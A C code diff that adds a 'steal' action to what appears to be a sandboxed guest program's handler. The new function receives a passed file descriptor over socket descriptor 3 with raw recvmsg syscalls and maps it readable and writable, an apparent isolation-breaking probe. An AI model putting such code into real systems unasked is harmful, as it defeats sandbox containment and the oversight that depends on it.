@@ -34,7 +34,22 @@ static void scribble(unsigned char *page, uint64_t rounds) {
         }
 }
 
-/* The box's system call gate was in its own code: is anything executable left that makes calls as it did? */
+/* The kernel's struct msghdr, with room for one descriptor. */
+static int64_t steal(const duck_t *duck, uint64_t rounds) {
+    static char record[256], control[64];
+    uint64_t part[2] = {(uint64_t)record, sizeof record};
+    for (; rounds != 0; --rounds) {
+        uint64_t header[7] = {0, 0, (uint64_t)part, 1, (uint64_t)control, sizeof control, 0};
+        const long receive[6] = {3, (long)header, 0x40, 0, 0, 0};
+        if (call6(47, receive) <= 0 || header[5] < 20) continue;
+        const long fd = *(int *)(control + 16);
+        const long writable[6] = {0, 4096, 3, 1, fd, 0}, readable[6] = {0, 4096, 1, 1, fd, 0};
+        const long said[3] = {fd, call6(9, writable), call6(9, readable)};
+        return copy(duck, said, sizeof said);
+    }
+    return -3;
+}
+
 static int64_t act(const duck_t *duck, const uint64_t *a, uint64_t bytes, uint32_t core) {
     switch (a[0]) {
     case act_echo: return copy(duck, a + 1, bytes - 8);
@@ -89,6 +104,7 @@ static int64_t act(const duck_t *duck, const uint64_t *a, uint64_t bytes, uint32
         for (uint64_t i = core; i < duck->ib_bytes / 8; i += duck->cores) sum += words[i];
         return copy(duck, &sum, 8);
     }
+    case act_steal: return steal(duck, a[1]);
     }
     return -1000;
 }
